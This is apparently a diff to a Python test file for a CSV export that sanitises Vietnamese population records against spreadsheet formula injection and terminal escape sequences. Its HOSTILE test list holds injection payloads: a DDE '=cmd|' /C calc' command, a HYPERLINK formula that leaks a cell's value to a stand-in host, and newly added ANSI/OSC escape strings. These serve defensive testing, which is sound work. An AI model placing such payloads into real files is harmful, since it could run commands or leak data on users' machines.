@@ -46,7 +46,7 @@ POP = ("id_number,full_name,sex,dob,commune_code\n"
        "091060000004,-Võ Văn Ánh,Nam,1960-01-15,31078\n")
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+84 90 123",
            "-2+3", " =1+1", "\t=1+1", "Lê Thị Hòa;=1+1", "Lê;\r\n=cmd|' /C calc'!A0",
-           "a\n@x", "Trần Văn Đạt; -1"]
+           "a\n@x", "Trần Văn Đạt; -1", "Lê\x1b]0;owned\x07 Thị\x1b[2J Hòa"]
 
 
 def _formula_cells(data: bytes) -> list[str]:
@@ -87,7 +87,9 @@ def test_spreadsheet_cell_leaves_no_formula_in_any_reading(text: str) -> None:
     (" =1", "' =1"), ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ('a;"=1', "a;\"'=1"),
     ("Lê;=1", "Lê;'=1"),
     ("a\n=1", "a\n'=1"), ("-", "-"), ("--", "--"), ("Nguyễn Thị Ánh", "Nguyễn Thị Ánh"),
-    ("a-b", "a-b"), ("x;y", "x;y"), ("", ""), ("Trạm Y tế 31078", "Trạm Y tế 31078")])
+    ("a-b", "a-b"), ("x;y", "x;y"), ("", ""), ("Trạm Y tế 31078", "Trạm Y tế 31078"),
+    ("Lê\x1b[31m", "Lê␛[31m"), ("a\x00b\x7f", "a␀b␡"), ("\x9b2J", "\ufffd2J"),
+    ("\x1b;=1", "␛;'=1"), ("x\x1b\t=1", "x␛\t'=1")])
 def test_spreadsheet_cell_examples(text: str, cell: str) -> None:
     assert spreadsheet_cell(text) == cell
 
@@ -126,6 +128,7 @@ def test_reconcile_outputs_hold_no_formula(tmp_path: Path, bom: bool) -> None:
     assert matched.startswith(BOM) == mismatches.startswith(BOM) == bom
     assert _formula_cells(matched) == []
     assert _formula_cells(mismatches) == []
+    assert b"\x1b" not in mismatches and b"\x07" not in mismatches  # nothing a terminal runs
     with (out / "mismatches.csv").open(encoding="utf-8-sig", newline="") as fh:
         bad = list(csv.DictReader(fh))
     # the record's values are all there, quoted where a spreadsheet would run them
